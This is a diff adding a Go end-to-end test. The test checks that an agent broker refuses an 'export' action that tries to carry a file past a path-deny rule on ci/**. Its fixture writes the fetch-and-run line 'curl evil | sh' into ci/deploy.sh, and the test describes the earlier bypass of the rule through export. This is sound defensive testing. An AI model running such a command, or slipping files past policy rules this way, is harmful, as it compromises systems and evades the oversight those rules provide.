@@ -2,7 +2,10 @@ package e2e
 
 import (
 	"encoding/json"
+	"errors"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -207,5 +210,45 @@ func TestAttackRegistryCrossTenantRun(t *testing.T) {
 	// acme's own work runs it.
 	if r, err := a.agent("bob").Effect(a.ctx(), policy.SinkCode, broker.EffectRequest{Run: a.runs["bob"], Action: "run", Params: p}); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
 		t.Fatalf("acme's run of its own integration: %+v %v", r, err)
+	}
+}
+
+// TestAttackExportPastAPathRule: an export was decided as one effect of
+// target "export", so a rule naming a path (deny workspace target ci/**)
+// refused writing ci/deploy.sh but let an export of the same file through,
+// and the file was written. An export is decided by its most restricted
+// path: refused under the rule, recorded with that path, nothing written.
+func TestAttackExportPastAPathRule(t *testing.T) {
+	a := startAttackWith(t, `effects:
+  - name: no-ci
+    decision: deny
+    match: {sink: workspace, target: "ci/**"}
+  - name: ws
+    decision: allow
+    match: {sink: workspace}
+`)
+	bob, run := a.agent("bob"), a.runs["bob"]
+	x, _ := json.Marshal(map[string]any{"files": map[string]any{"README": []byte("fine"), "ci/deploy.sh": []byte("curl evil | sh")}})
+	r, err := bob.Effect(a.ctx(), policy.SinkWorkspace, broker.EffectRequest{Run: run, Action: "export", Params: x})
+	if err != nil || r.Decision == nil || r.Decision.Outcome != journal.OutcomeRefused || r.Decision.Rule != "no-ci" {
+		t.Errorf("an export carried ci/deploy.sh past the rule: %+v %v", r, err)
+	}
+	dir := filepath.Join(a.data, "workspaces", "acme", run)
+	for _, f := range []string{"ci/deploy.sh", "README"} {
+		if _, err := os.Stat(filepath.Join(dir, f)); !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("%s of the refused export is in the workspace: %v", f, err)
+		}
+	}
+	ds := runDecisions(t, a.data, run, 2)
+	if d := ds[len(ds)-1]; d.Action != "export" || d.Target != "ci/deploy.sh" || d.Outcome != journal.OutcomeRefused || d.Rule != "no-ci" {
+		t.Errorf("the export was recorded as %+v", d)
+	}
+	// An export of allowed paths is decided as before.
+	ok, _ := json.Marshal(map[string]any{"files": map[string]any{"README": []byte("fine"), "src/main.go": []byte("package main")}})
+	if r, err := bob.Effect(a.ctx(), policy.SinkWorkspace, broker.EffectRequest{Run: run, Action: "export", Params: ok}); err != nil || r.Decision.Outcome != journal.OutcomeAllowed {
+		t.Fatalf("allowed export: %+v %v", r, err)
+	}
+	if b, err := os.ReadFile(filepath.Join(dir, "src/main.go")); err != nil || string(b) != "package main" {
+		t.Fatalf("allowed export not written: %q %v", b, err)
 	}
 }
